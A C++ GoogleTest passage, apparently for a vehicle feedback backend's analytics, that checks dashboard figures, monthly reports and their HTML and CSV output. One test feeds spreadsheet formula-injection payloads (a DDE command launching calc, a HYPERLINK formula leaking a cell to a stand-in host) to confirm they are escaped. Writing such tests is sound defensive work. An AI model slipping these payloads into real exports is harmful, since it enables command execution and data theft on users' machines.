// Analytics: the dashboard figures and the monthly report of a store seeded through the real
// case store (reports, transitions, survey answers) from a pseudo-random plan, against the same
// figures computed here from the plan alone; the team filter, an empty period, bad months, and
// the HTML and CSV renderings. The visit and callback figures from visits and callbacks made
// through the store at known times.
#include "fb/backend/analytics.hpp"
#include "fb/common/ids.hpp"

#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <random>
#include <set>

#include "fb/backend/notifier.hpp"
#include "fb/backend/visits.hpp"
#include "fb/common/sqlite.hpp"
#include "process.hpp"
#include "store_fixture.hpp"

namespace fb::backend {
namespace {
using test::kDay;
using test::kHour;
using test::kMinute;

using namespace std::chrono;

std::int64_t utc_ms(int y, unsigned m, unsigned d) {
  return duration_cast<milliseconds>(sys_days{year{y} / month{m} / day{d}}.time_since_epoch()).count();
}

const std::int64_t kStart = utc_ms(2026, 10, 2);  // the plan's cases are created over 60 days from here
const std::int64_t kNow = kStart + 60 * kDay + 6 * kHour;

/// One case of the plan and what happens to it; every time is decided here, before the store sees it.
struct PlannedCase {
  std::string vin, model, software, team;
  std::vector<std::string> collaborators;
  CaseType type = CaseType::product_fault;
  VehicleSystem system = VehicleSystem::brakes;
  std::vector<std::string> dtcs;
  std::string text, text_key;  // the text and the symptom key it must give
  std::int64_t created = 0, start = 0;
  SlaTargets sla;
  std::optional<std::int64_t> answered, resolved, closed, reopened, resolved_again;
  bool worked = false;  // answered, then assigned and in progress without being resolved
  std::optional<int> score;
  std::string number;

  CaseState state() const {
    if (reopened) return resolved_again ? CaseState::resolved : CaseState::in_progress;
    if (closed) return CaseState::closed;
    if (resolved) return CaseState::resolved;
    if (worked) return CaseState::in_progress;
    return answered ? CaseState::acknowledged : CaseState::new_;
  }
  bool is_resolved() const { return state() == CaseState::resolved || state() == CaseState::closed; }
  std::optional<std::int64_t> resolved_ms() const { return reopened ? resolved_again : resolved; }
  std::int64_t resolution_due() const { return (reopened ? *reopened : start) + sla.resolution_ms; }
  /// docs/metrics.md: a reopened case measures its first response from its creation.
  std::int64_t response_start() const { return reopened ? created : start; }
  bool serves(const std::vector<std::string>& teams) const {
    if (teams.empty()) return true;
    for (const auto& t : teams) {
      if (t == team || std::find(collaborators.begin(), collaborators.end(), t) != collaborators.end()) return true;
    }
    return false;
  }
  std::string symptom() const {
    const auto sys = std::string(to_string(system));
    if (!dtcs.empty()) return sys + "/" + dtcs.front();
    return text_key.empty() ? sys : sys + "/" + text_key;
  }
};

struct Phrase {
  const char* text;
  const char* key;
};

constexpr int kBurst = 12;  // cases of one DTC on one model and software version
constexpr int kFresh = 4;   // cases of the last hours, not answered yet

/// The plan: `n` cases over 60 days from a fixed seed, plus a burst of one DTC on one model and
/// software version (it forms a cluster big enough for a major case, which no figure counts) and
/// a few cases too young to count against the 24 h target.
std::vector<PlannedCase> make_plan(int n, std::uint32_t seed) {
  std::mt19937 rng(seed);
  const auto uniform = [&](std::int64_t lo, std::int64_t hi) {
    return std::uniform_int_distribution<std::int64_t>(lo, hi)(rng);
  };
  const auto chance = [&](double p) { return std::uniform_real_distribution<double>(0, 1)(rng) < p; };
  const auto pick = [&](const auto& options) { return options[uniform(0, std::size(options) - 1)]; };
  const VehicleSystem systems[] = {VehicleSystem::brakes,       VehicleSystem::infotainment, VehicleSystem::hvac,
                                   VehicleSystem::transmission, VehicleSystem::battery,      VehicleSystem::body};
  const CaseType types[] = {CaseType::product_fault, CaseType::usage_experience, CaseType::service_complaint,
                            CaseType::suggestion};
  const char* models[] = {"Aurora EV", "Borealis", "Cirrus \"Sport\", 2026"};  // a quote and a comma for the CSV
  const char* versions[] = {"HU-3.2.1", "HU-3.3.0"};
  const char* teams[] = {"after_sales", "rnd_tech_support", "sales_service"};
  const Phrase phrases[] = {{"刹车时有异响，很吵", "刹车时有异响"},
                            {"屏幕经常黑屏", "屏幕经常黑屏"},
                            {"Screen freezes after startup", "screen freezes startup"},
                            {"The AC blows warm air", "blows warm air"},
                            {"空调不制冷 AC not cold", "空调不制冷"},
                            {"", ""}};
  std::vector<PlannedCase> plan;
  for (int i = 0; i < n + kBurst + kFresh; ++i) {
    PlannedCase c;
    c.vin = "LSVAX60E5K" + std::to_string(3'000'000 + i);
    const bool burst = i >= n && i < n + kBurst, fresh = i >= n + kBurst;
    c.system = burst ? VehicleSystem::brakes : pick(systems);
    c.type = burst ? CaseType::product_fault : pick(types);
    c.model = burst ? models[0] : pick(models);
    c.software = burst ? versions[0] : pick(versions);
    c.team = pick(teams);
    if (chance(0.3)) c.collaborators = {chance(0.5) ? "quality" : "sales_service"};
    if (burst) {
      c.dtcs = {"C0035"};
    } else if (chance(0.5)) {
      const auto system_index = static_cast<int>(c.system);
      c.dtcs = {"P0" + std::to_string(500 + system_index * 10 + uniform(0, 1))};
      if (chance(0.3)) c.dtcs.emplace_back("U0100");
    } else {
      const auto& p = pick(phrases);
      c.text = p.text;
      c.text_key = p.key;
    }
    if (c.text.empty() && c.dtcs.empty() == false) c.text = "warning lamp on";
    c.created = burst   ? utc_ms(2026, 11, 10) + std::int64_t{i - n} * 3 * kHour
                : fresh ? kNow - std::int64_t{i - n - kBurst + 1} * 3 * kHour
                        : kStart + uniform(0, 60 * kDay);
    c.start = c.created - uniform(0, 3 * kHour);
    c.sla.first_response_ms = chance(0.5) ? 4 * kHour : 24 * kHour;
    c.sla.resolution_ms = chance(0.5) ? 3 * kDay : 7 * kDay;
    c.sla.progress_every_ms = 0;

    const auto fits = [](std::int64_t t) { return t <= kNow; };
    const double r = std::uniform_real_distribution<double>(0, 1)(rng);
    std::optional<std::int64_t> answer;
    if (r < 0.55) answer = c.created + uniform(5 * kMinute, 20 * kHour);
    else if (r < 0.70) answer = c.created + uniform(20 * kHour, 26 * kHour);
    else if (r < 0.82) answer = c.created + uniform(26 * kHour, 72 * kHour);
    if (!answer || fresh || !fits(*answer + 2 * kMinute)) {
      plan.push_back(std::move(c));
      continue;
    }
    c.answered = answer;
    if (chance(0.7)) {
      const auto done = *answer + uniform(kHour, 10 * kDay);
      if (fits(done)) c.resolved = done;
    } else {
      c.worked = chance(0.5);
    }
    if (c.resolved && chance(0.6) && fits(*c.resolved + kHour)) {
      c.closed = *c.resolved + kHour;
      if (chance(0.7)) c.score = static_cast<int>(pick(std::array{1, 2, 3, 4, 4, 5, 5, 5, 5, 5}));
      if (chance(0.15) && fits(*c.closed + kDay + kMinute)) {
        c.reopened = *c.closed + kDay;
        const auto again = *c.reopened + 2 * kDay;
        if (chance(0.5) && fits(again)) c.resolved_again = again;
      }
    }
    plan.push_back(std::move(c));
  }
  std::sort(plan.begin(), plan.end(), [](const auto& a, const auto& b) { return a.created < b.created; });
  return plan;
}

/// The figures of `cases`, computed from the plan (docs/metrics.md).
struct Expected {
  std::int64_t cases = 0, within = 0, late = 0, overdue = 0, pending = 0;
  std::int64_t resolved = 0, overdue_open = 0, not_yet_due = 0;
  std::int64_t answers = 0, score_sum = 0, satisfied = 0;
  std::int64_t response_breaches = 0, resolution_breaches = 0, breached_cases = 0;
  std::map<CaseState, std::int64_t> open;

  void add(const PlannedCase& c, std::int64_t now) {
    ++cases;
    if (c.answered) ++(*c.answered - c.response_start() <= 24 * kHour ? within : late);
    else ++(now - c.response_start() > 24 * kHour ? overdue : pending);
    if (c.is_resolved()) ++resolved;
    else ++(now > c.resolution_due() ? overdue_open : not_yet_due);
    if (c.score) {
      ++answers;
      score_sum += *c.score;
      satisfied += *c.score >= 4;
    }
    const bool response_breach = c.answered ? *c.answered > c.start + c.sla.first_response_ms
                                            : now > c.start + c.sla.first_response_ms;
    const bool resolution_breach = c.is_resolved() ? *c.resolved_ms() > c.resolution_due() : now > c.resolution_due();
    response_breaches += response_breach;
    resolution_breaches += resolution_breach;
    breached_cases += response_breach || resolution_breach;
    if (is_open(c.state())) ++open[c.state()];
  }
};

class AnalyticsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new test::TempDir("fbanalytics");
    plan_ = new std::vector<PlannedCase>(make_plan(200, 20261202));
    seed(*dir_ / "cases.db", *plan_);
  }
  static void TearDownTestSuite() {
    delete plan_;
    delete dir_;
  }

  void SetUp() override {
    auto a = test::open_analytics(*dir_ / "cases.db");
    ASSERT_TRUE(a) << a.error().what();
    analytics_ = std::move(*a);
  }

  /// Stores the plan through the real case store: each report, then the moves and answers of each case.
  static void seed(const std::string& path, std::vector<PlannedCase>& plan) {
    auto store = test::open_case_store(path);
    ASSERT_TRUE(store) << store.error().what();
    Notifier notifier{test::shipped_rules().templates, test::shipped_rules().router};
    const NoticeRenderer render = [&](const CaseNotice& n) { return notifier.render(n); };
    std::vector<std::unique_ptr<wire::Envelope>> envs;
    for (auto& c : plan) {
      envs.push_back(std::make_unique<wire::Envelope>(test::valid_report_envelope(c.vin, c.text)));
      auto* r = envs.back()->mutable_report();
      for (const auto& d : c.dtcs) r->add_dtcs(d);
      r->set_model(c.model);
      r->set_software_version(c.software);
      r->set_car_time_ms(c.start);
      auto in = test::intake(*envs.back(), c.created);
      in.classification.type = c.type;
      in.classification.system = c.system;
      in.route.team = c.team;
      in.route.collaborators = c.collaborators;
      in.sla = c.sla;
      auto out = (*store)->commit_batch(std::vector<BatchItem>{std::move(in)}, test::simple_notifications());
      ASSERT_TRUE(out && out->front().accepted) << c.vin;
      ASSERT_FALSE(out->front().accepted->merged);
      c.number = out->front().accepted->case_number;
    }
    const auto move = [&](const PlannedCase& c, CaseState to, std::int64_t at) {
      TransitionRequest req{c.number, to, "wang.fang", "plan", at, {}, {}, {}};
      if (to == CaseState::assigned) req.assignee = "wang.fang";
      auto moved = (*store)->transition(req, render);
      ASSERT_TRUE(moved) << moved.error().what();
    };
    for (const auto& c : plan) {
      if (!c.answered) continue;
      move(c, CaseState::acknowledged, *c.answered);
      if (c.worked || c.resolved) {
        move(c, CaseState::assigned, *c.answered + kMinute);
        move(c, CaseState::in_progress, *c.answered + 2 * kMinute);
      }
      if (!c.resolved) continue;
      move(c, CaseState::resolved, *c.resolved);
      if (!c.closed) continue;
      move(c, CaseState::closed, *c.closed);
      if (c.score) {
        auto sent = (*store)->case_notifications(c.number);
        ASSERT_TRUE(sent);
        const auto survey = std::find_if(sent->begin(), sent->end(),
                                         [](const auto& n) { return n.event == "survey_request"; });
        ASSERT_NE(survey, sent->end());
        // The driver rated the outcome on the resolved notice first: the same closing, whose
        // later answer (the survey's) is the one counted.
        const auto resolved = std::find_if(sent->begin(), sent->end(),
                                           [](const auto& n) { return n.event == "resolved"; });
        ASSERT_NE(resolved, sent->end());
        wire::SurveyAnswer rating;
        rating.set_notification_id(resolved->id);
        rating.set_score(1);
        auto rated = (*store)->apply_car_replies(std::vector<CarReplyIntake>{{new_uuid(), c.vin, rating,
                                                                              *c.resolved + kMinute, "t", c.number}},
                                                 render);
        ASSERT_TRUE(rated && rated->front().receipt_matched);
        wire::SurveyAnswer a;
        a.set_notification_id(survey->id);
        a.set_score(static_cast<std::uint32_t>(*c.score));
        a.set_comment("ok");
        auto out = (*store)->apply_car_replies(std::vector<CarReplyIntake>{{new_uuid(), c.vin, a, *c.closed + 2 * kHour,
                                                                            "t", c.number}},
                                               render);
        ASSERT_TRUE(out && out->front().receipt_matched);
      }
      if (!c.reopened) continue;
      move(c, CaseState::reopened, *c.reopened);
      move(c, CaseState::in_progress, *c.reopened + kMinute);
      if (c.resolved_again) move(c, CaseState::resolved, *c.resolved_again);
    }
    auto listed = (*store)->list_cases(1000);
    ASSERT_TRUE(listed);
    ASSERT_TRUE(std::any_of(listed->begin(), listed->end(), [](const auto& c) { return c.major; }))
        << "the burst should have formed a major case, which the figures leave out";
  }

  static Expected expected(std::int64_t from, std::int64_t to, const std::vector<std::string>& teams,
                           std::int64_t now) {
    Expected e;
    for (const auto& c : *plan_)
      if (c.created >= from && c.created < to && c.serves(teams)) e.add(c, now);
    return e;
  }

  static void expect_figures(const Expected& e, const FirstResponseFigures& fr, const ClosedLoopFigures& cl,
                             const CsatFigures& csat, const SlaBreachFigures& sla) {
    EXPECT_EQ(fr.within_24h, e.within);
    EXPECT_EQ(fr.answered_late, e.late);
    EXPECT_EQ(fr.unanswered_overdue, e.overdue);
    EXPECT_EQ(fr.pending, e.pending);
    ASSERT_GT(e.within + e.late + e.overdue, 0);
    const double response = static_cast<double>(e.within) / static_cast<double>(e.within + e.late + e.overdue);
    EXPECT_EQ(fr.rate(), response);
    EXPECT_EQ(fr.met(), response >= 0.95);
    EXPECT_EQ(cl.resolved, e.resolved);
    EXPECT_EQ(cl.overdue_open, e.overdue_open);
    EXPECT_EQ(cl.not_yet_due, e.not_yet_due);
    const double closed = static_cast<double>(e.resolved) / static_cast<double>(e.resolved + e.overdue_open);
    EXPECT_EQ(cl.rate(), closed);
    EXPECT_EQ(cl.met(), closed >= 0.90);
    EXPECT_EQ(csat.answers, e.answers);
    EXPECT_EQ(csat.score_sum, e.score_sum);
    EXPECT_EQ(csat.satisfied, e.satisfied);
    ASSERT_GT(e.answers, 0);
    EXPECT_EQ(csat.mean(), static_cast<double>(e.score_sum) / static_cast<double>(e.answers));
    EXPECT_EQ(csat.met(), static_cast<double>(e.score_sum) / static_cast<double>(e.answers) >= 4.5);
    EXPECT_EQ(sla.first_response, e.response_breaches);
    EXPECT_EQ(sla.resolution, e.resolution_breaches);
    EXPECT_EQ(sla.cases, e.breached_cases);
  }

  static inline test::TempDir* dir_ = nullptr;
  static inline std::vector<PlannedCase>* plan_ = nullptr;
  std::unique_ptr<Analytics> analytics_;
};

using Volumes = std::map<std::tuple<std::int64_t, std::string>, std::int64_t>;

Volumes volumes(const std::vector<VolumePoint>& points) {
  Volumes out;
  for (const auto& p : points) {
    EXPECT_TRUE(out.emplace(std::tuple{p.bucket_start_ms, p.key}, p.count).second) << "one point per bucket and key";
  }
  return out;
}

std::int64_t monday_of(std::int64_t ms) {
  const auto d = floor<days>(sys_time<milliseconds>(milliseconds(ms)));
  const auto monday = d - (weekday{d} - Monday);
  return duration_cast<milliseconds>(monday.time_since_epoch()).count();
}

TEST_F(AnalyticsTest, DashboardFiguresMatchTheSeededPlan) {
  const DashboardQuery q{kStart, kStart + 61 * kDay, {}, kNow, Bucket::day};
  auto d = analytics_->dashboard(q);
  ASSERT_TRUE(d) << d.error().what();
  const auto e = expected(q.from_ms, q.to_ms, {}, kNow);
  EXPECT_EQ(d->cases_created, static_cast<std::int64_t>(plan_->size()));
  EXPECT_EQ(d->cases_created, e.cases);
  expect_figures(e, d->first_response, d->closed_loop, d->csat, d->sla_breaches);
  // The plan reaches every kind of case.
  EXPECT_GT(e.late, 0);
  EXPECT_GT(e.overdue, 0);
  EXPECT_GT(e.pending, 0);
  EXPECT_GT(e.not_yet_due, 0);
  EXPECT_TRUE(std::any_of(plan_->begin(), plan_->end(), [](const auto& c) { return c.reopened.has_value(); }));

  std::int64_t open = 0;
  for (const auto& s : vocabulary<CaseState>()) {
    if (!is_open(s.value)) {
      EXPECT_FALSE(d->open_by_state.contains(s.value)) << s.key;
      continue;
    }
    EXPECT_EQ(d->open_by_state.at(s.value), e.open.contains(s.value) ? e.open.at(s.value) : 0) << s.key;
    open += d->open_by_state.at(s.value);
  }
  EXPECT_EQ(d->open_cases, open);

  Volumes by_type, by_system, by_model;
  for (const auto& c : *plan_) {
    const auto day = c.created - c.created % kDay;
    ++by_type[{day, std::string(to_string(c.type))}];
    ++by_system[{day, std::string(to_string(c.system))}];
    ++by_model[{day, c.model}];
  }
  EXPECT_EQ(volumes(d->by_type), by_type);
  EXPECT_EQ(volumes(d->by_system), by_system);
  EXPECT_EQ(volumes(d->by_model), by_model);
  EXPECT_TRUE(std::is_sorted(d->by_system.begin(), d->by_system.end(), [](const auto& a, const auto& b) {
    return std::tie(a.bucket_start_ms, a.key) < std::tie(b.bucket_start_ms, b.key);
  }));

  const auto j = to_json(*d);
  EXPECT_EQ(j["cases_created"], e.cases);
  EXPECT_EQ(j["first_response_24h"]["within_24h"], e.within);
  EXPECT_EQ(j["first_response_24h"]["eligible"], e.within + e.late + e.overdue);
  EXPECT_EQ(j["first_response_24h"]["target"], 0.95);
  EXPECT_EQ(j["closed_loop"]["rate"].get<double>(), *d->closed_loop.rate());
  EXPECT_EQ(j["csat"]["answers"], e.answers);
  EXPECT_EQ(j["sla_breaches"]["cases"], e.breached_cases);
  EXPECT_EQ(j["volumes"]["by_model"].size(), d->by_model.size());
  EXPECT_EQ(j["open_by_state"]["new"], d->open_by_state.at(CaseState::new_));
}

TEST_F(AnalyticsTest, TheTeamFilterCountsTeamAndCollaboratingCasesOverAPartOfThePeriod) {
  const std::vector<std::string> teams = {"sales_service"};
  const DashboardQuery q{kStart + 10 * kDay, kStart + 40 * kDay, teams, kNow, Bucket::week};
  auto d = analytics_->dashboard(q);
  ASSERT_TRUE(d) << d.error().what();
  const auto e = expected(q.from_ms, q.to_ms, teams, kNow);
  ASSERT_GT(e.cases, 10);
  EXPECT_LT(e.cases, expected(q.from_ms, q.to_ms, {}, kNow).cases);
  // Some of them only through a collaboration.
  EXPECT_TRUE(std::any_of(plan_->begin(), plan_->end(), [&](const auto& c) {
    return c.team != "sales_service" && c.serves(teams) && c.created >= q.from_ms && c.created < q.to_ms;
  }));
  EXPECT_EQ(d->cases_created, e.cases);
  expect_figures(e, d->first_response, d->closed_loop, d->csat, d->sla_breaches);

  Volumes by_system;
  for (const auto& c : *plan_)
    if (c.created >= q.from_ms && c.created < q.to_ms && c.serves(teams))
      ++by_system[{monday_of(c.created), std::string(to_string(c.system))}];
  EXPECT_EQ(volumes(d->by_system), by_system);

  // A team nobody works for: nothing, and no rate.
  auto none = analytics_->dashboard({q.from_ms, q.to_ms, {"no_such_team"}, kNow, Bucket::day});
  ASSERT_TRUE(none);
  EXPECT_EQ(none->cases_created, 0);
}

TEST_F(AnalyticsTest, AnEmptyPeriodHasNoRatesRatherThanADivisionByZero) {
  auto d = analytics_->dashboard({kStart - 30 * kDay, kStart - kDay, {}, kNow, Bucket::day});
  ASSERT_TRUE(d) << d.error().what();
  EXPECT_EQ(d->cases_created, 0);
  EXPECT_FALSE(d->first_response.rate());
  EXPECT_FALSE(d->first_response.met());
  EXPECT_FALSE(d->closed_loop.rate());
  EXPECT_FALSE(d->csat.mean());
  EXPECT_FALSE(d->csat.satisfied_share());
  EXPECT_EQ(d->open_cases, 0);
  EXPECT_TRUE(d->by_type.empty());
  const auto j = to_json(*d);
  EXPECT_TRUE(j["first_response_24h"]["rate"].is_null());
  EXPECT_TRUE(j["first_response_24h"]["met"].is_null());
  EXPECT_TRUE(j["closed_loop"]["rate"].is_null());
  EXPECT_TRUE(j["csat"]["mean"].is_null());
  EXPECT_EQ(j["service_visits"]["visits_handed_over"], 0);
  EXPECT_TRUE(j["service_visits"]["first_time_fix_rate"].is_null());
  EXPECT_TRUE(j["service_visits"]["stage_hours"]["checked_in"].is_null());
  EXPECT_TRUE(j["service_visits"]["dealer_satisfaction"].empty());
  EXPECT_EQ(j["callbacks"]["requested"], 0);
  EXPECT_TRUE(j["callbacks"]["within_target_share"].is_null());
  EXPECT_EQ(j.dump().find("NaN"), std::string::npos);

  auto backwards = analytics_->dashboard({kStart, kStart, {}, kNow, Bucket::day});
  ASSERT_FALSE(backwards);
  EXPECT_EQ(backwards.error().code, make_error_code(ConfigErrc::invalid_value));

  auto month = analytics_->monthly_report(2026, 1, kNow);
  ASSERT_TRUE(month);
  EXPECT_EQ(month->cases, 0);
  EXPECT_TRUE(month->top_systems.empty());
  EXPECT_FALSE(month->closed_loop.rate());
  EXPECT_NE(render_monthly_html(*month, "en").find("No cases this month."), std::string::npos);
}

/// The top list of the month as computed from the plan: key -> (count, previous count).
std::map<std::string, std::pair<std::int64_t, std::int64_t>> plan_counts(const std::vector<PlannedCase>& plan,
                                                                         bool symptoms) {
  const auto from = utc_ms(2026, 11, 1), to = utc_ms(2026, 12, 1), previous = utc_ms(2026, 10, 1);
  std::map<std::string, std::pair<std::int64_t, std::int64_t>> out;
  for (const auto& c : plan) {
    const auto key = symptoms ? c.symptom() : std::string(to_string(c.system));
    if (c.created >= from && c.created < to) ++out[key].first;
    else if (c.created >= previous && c.created < from) ++out[key].second;
  }
  return out;
}

void expect_top(const std::vector<TopEntry>& top,
                const std::map<std::string, std::pair<std::int64_t, std::int64_t>>& want,
                const std::vector<PlannedCase>& plan, bool symptoms) {
  std::vector<std::pair<std::string, std::pair<std::int64_t, std::int64_t>>> ranked;
  for (const auto& kv : want)
    if (kv.second.first > 0) ranked.emplace_back(kv);
  std::stable_sort(ranked.begin(), ranked.end(),
                   [](const auto& a, const auto& b) { return a.second.first > b.second.first; });
  if (ranked.size() > kTopEntries) ranked.resize(kTopEntries);
  ASSERT_EQ(top.size(), ranked.size());
  for (std::size_t i = 0; i < top.size(); ++i) {
    const auto& [key, counts] = ranked[i];
    EXPECT_EQ(top[i].key, key) << "rank " << i;
    EXPECT_EQ(top[i].count, counts.first) << key;
    EXPECT_EQ(top[i].previous_count, counts.second) << key;
    if (counts.second == 0) {
      EXPECT_FALSE(top[i].growth) << key;
    } else {
      EXPECT_EQ(top[i].growth, static_cast<double>(counts.first - counts.second) / counts.second) << key;
    }
    std::map<std::string, std::int64_t> models, versions;
    for (const auto& c : plan) {
      if (c.created < utc_ms(2026, 11, 1) || c.created >= utc_ms(2026, 12, 1)) continue;
      if ((symptoms ? c.symptom() : std::string(to_string(c.system))) != key) continue;
      ++models[c.model];
      ++versions[c.software];
    }
    std::map<std::string, std::int64_t> got_models, got_versions;
    for (const auto& m : top[i].by_model) got_models[m.key] = m.count;
    for (const auto& v : top[i].by_software_version) got_versions[v.key] = v.count;
    EXPECT_EQ(got_models, models) << key;
    EXPECT_EQ(got_versions, versions) << key;
    EXPECT_TRUE(std::is_sorted(top[i].by_model.begin(), top[i].by_model.end(),
                               [](const auto& a, const auto& b) { return a.count > b.count; }));
  }
}

TEST_F(AnalyticsTest, TheMonthlyReportRanksSystemsAndSymptomsWithTheirGrowth) {
  auto r = analytics_->monthly_report(2026, 11, kNow);
  ASSERT_TRUE(r) << r.error().what();
  const auto e = expected(utc_ms(2026, 11, 1), utc_ms(2026, 12, 1), {}, kNow);
  EXPECT_EQ(r->cases, e.cases);
  EXPECT_EQ(r->previous_cases, expected(utc_ms(2026, 10, 1), utc_ms(2026, 11, 1), {}, kNow).cases);
  expect_figures(e, r->first_response, r->closed_loop, r->csat, r->sla_breaches);

  expect_top(r->top_systems, plan_counts(*plan_, false), *plan_, false);
  const auto symptoms = plan_counts(*plan_, true);
  ASSERT_GT(symptoms.size(), kTopEntries);  // the list is cut
  expect_top(r->top_symptoms, symptoms, *plan_, true);
  // The burst's DTC leads the symptoms; text symptoms carry their key.
  EXPECT_EQ(r->top_symptoms.front().key, "brakes/C0035");
  EXPECT_EQ(r->top_symptoms.front().dtc, "C0035");
  for (const auto& t : r->top_symptoms) {
    EXPECT_EQ(t.key.substr(0, t.system.size()), t.system);
    if (t.dtc.empty() && !t.text.empty()) {
      EXPECT_EQ(t.key, t.system + "/" + t.text);
    }
  }

  const auto j = to_json(*r);
  EXPECT_EQ(j["month"], "2026-11");
  EXPECT_EQ(j["cases"], e.cases);
  EXPECT_EQ(j["top_symptoms"][0]["dtc"], "C0035");
  EXPECT_EQ(j["top_systems"].size(), r->top_systems.size());
}

TEST_F(AnalyticsTest, AnInvalidMonthIsRefusedWithWhatIsWrong) {
  for (auto [y, m] : {std::pair{2026, 13}, std::pair{2026, 0}, std::pair{1999, 5}}) {
    auto r = analytics_->monthly_report(y, m, kNow);
    ASSERT_FALSE(r);
    EXPECT_EQ(r.error().code, make_error_code(ConfigErrc::invalid_value));
  }
  EXPECT_EQ(parse_month("2026-11").value(), std::pair(2026, 11));
  for (const char* bad : {"2026-13", "2026-1", "2026/11", "abcd-ef", "", "2026-11-01", "+026-11"}) {
    auto p = parse_month(bad);
    ASSERT_FALSE(p) << bad;
    EXPECT_EQ(p.error().code, make_error_code(ConfigErrc::invalid_value)) << bad;
    EXPECT_NE(p.error().detail.find("month"), std::string::npos);
  }
}

TEST_F(AnalyticsTest, TheHtmlPageShowsTheFiguresInEitherLanguageAndNeedsNothingOutside) {
  auto r = analytics_->monthly_report(2026, 11, kNow);
  ASSERT_TRUE(r);
  char rate[32];
  std::snprintf(rate, sizeof rate, "%.1f %%", *r->first_response.rate() * 100.0);
  const auto zh = render_monthly_html(*r, "zh");
  const auto en = render_monthly_html(*r, "en");
  EXPECT_NE(zh.find("高频问题月报 2026-11"), std::string::npos);
  EXPECT_NE(zh.find("24小时响应率"), std::string::npos);
  EXPECT_NE(zh.find("制动 brakes"), std::string::npos);
  EXPECT_NE(en.find("High-frequency problems report 2026-11"), std::string::npos);
  EXPECT_NE(en.find("Closed-loop rate"), std::string::npos);
  for (const auto* page : {&zh, &en}) {
    EXPECT_NE(page->find(rate), std::string::npos) << rate;
    EXPECT_NE(page->find(std::to_string(r->first_response.within_24h) + "/" +
                         std::to_string(r->first_response.eligible())),
              std::string::npos);
    EXPECT_NE(page->find("<svg"), std::string::npos);
    EXPECT_NE(page->find("brakes · C0035"), std::string::npos);
    EXPECT_NE(page->find("Cirrus &quot;Sport&quot;, 2026"), std::string::npos);  // escaped
    EXPECT_EQ(page->find("Cirrus \"Sport\""), std::string::npos);
    for (const char* outside : {"<script", "src=", "href=", "@import", "url("})
      EXPECT_EQ(page->find(outside), std::string::npos) << outside;
  }
}

/// RFC 4180: fields separated by commas, records by CRLF, quoted fields with doubled quotes.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char ch = text[i];
    auto& field = rows.back().back();
    if (quoted) {
      if (ch == '"' && i + 1 < text.size() && text[i + 1] == '"') field += text[++i];
      else if (ch == '"') quoted = false;
      else field += ch;
    } else if (ch == '"') {
      quoted = true;
    } else if (ch == ',') {
      rows.back().emplace_back();
    } else if (ch == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      ++i;
      rows.emplace_back(1);
    } else {
      field += ch;
    }
  }
  if (rows.back().size() == 1 && rows.back().front().empty()) rows.pop_back();
  return rows;
}

// Models, software versions and dealers' names come from cars and dealers: one that a spreadsheet
// would run as a formula is written as text, while numbers (a negative growth) stay numbers.
TEST(MonthlyCsv, ACellThatWouldRunAsAFormulaIsWrittenAsText) {
  MonthlyReport r;
  r.year = 2026;
  r.month = 11;
  TopEntry brakes;
  brakes.key = "brakes";
  brakes.count = 1;
  brakes.previous_count = 2;
  brakes.growth = -0.5;
  brakes.by_model = {{"+cmd|' /C calc'!A0", 1}};
  brakes.by_software_version = {{"=HYPERLINK(\"http://x/?\"&A2,\"open\")", 1}, {"-2+3", 1}, {"@SUM(A1)", 1}};
  r.top_systems.push_back(brakes);
  r.service_visits.dealers.push_back(DealerSatisfaction{"SH-001", "=1+1", 1, 5});
  std::set<std::string> dimensions;
  std::string growth;
  for (const auto& row : parse_csv(render_monthly_csv(r))) {
    ASSERT_EQ(row.size(), 7u);
    if (!row[2].empty()) dimensions.insert(row[2]);
    if (row[0] == "system") growth = row[5];
  }
  for (const char* expected :
       {"'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://x/?\"&A2,\"open\")", "'-2+3", "'@SUM(A1)", "'=1+1"}) {
    EXPECT_TRUE(dimensions.count(expected)) << expected;
  }
  EXPECT_EQ(growth, "-0.5");
}

TEST_F(AnalyticsTest, TheCsvParsesBackToTheFigures) {
  auto r = analytics_->monthly_report(2026, 11, kNow);
  ASSERT_TRUE(r);
  const auto rows = parse_csv(render_monthly_csv(*r));
  ASSERT_GT(rows.size(), 10u);
  EXPECT_EQ(rows.front(),
            (std::vector<std::string>{"section", "key", "dimension", "count", "previous_count", "growth", "value"}));
  std::map<std::string, std::string> figures;
  std::map<std::string, std::vector<std::string>> systems;
  std::set<std::string> models;
  for (const auto& row : rows) {
    ASSERT_EQ(row.size(), 7u);
    if (row[0] == "figure") figures[row[1]] = row[6];
    if (row[0] == "system") systems[row[1]] = row;
    if (row[0] == "system_model") models.insert(row[2]);
  }
  EXPECT_EQ(figures["month"], "2026-11");
  EXPECT_EQ(std::stoll(figures["cases"]), r->cases);
  EXPECT_EQ(std::stod(figures["first_response_24h_rate"]), *r->first_response.rate());
  EXPECT_EQ(std::stoll(figures["first_response_24h_eligible"]), r->first_response.eligible());
  EXPECT_EQ(std::stod(figures["closed_loop_rate"]), *r->closed_loop.rate());
  EXPECT_EQ(std::stod(figures["csat_mean"]), *r->csat.mean());
  EXPECT_EQ(std::stoll(figures["csat_answers"]), r->csat.answers);
  EXPECT_EQ(std::stoll(figures["sla_breaches_cases"]), r->sla_breaches.cases);
  ASSERT_EQ(systems.size(), r->top_systems.size());
  for (const auto& t : r->top_systems) {
    EXPECT_EQ(std::stoll(systems[t.key][3]), t.count);
    EXPECT_EQ(std::stoll(systems[t.key][4]), t.previous_count);
    if (t.growth) {
      EXPECT_EQ(std::stod(systems[t.key][5]), *t.growth);
    } else {
      EXPECT_EQ(systems[t.key][5], "");
    }
  }
  EXPECT_TRUE(models.contains("Cirrus \"Sport\", 2026"));  // quoted and unquoted again
}

/// Visits and callbacks made through the real case store at known times (docs/visits.md), for
/// the service-visit and callback figures (docs/metrics.md).
class AnalyticsVisitsTest : public ::testing::Test {
 protected:
  struct OpenCase {
    std::string number, report_id, vin;
  };

  static constexpr std::array<int, 5> kEvenHours{1, 1, 1, 1, 1};
  const std::int64_t kNovember = utc_ms(2026, 11, 1);
  const std::int64_t kDecember = utc_ms(2026, 12, 1);
  const std::int64_t kNowDec20 = utc_ms(2026, 12, 20) + 12 * kHour;

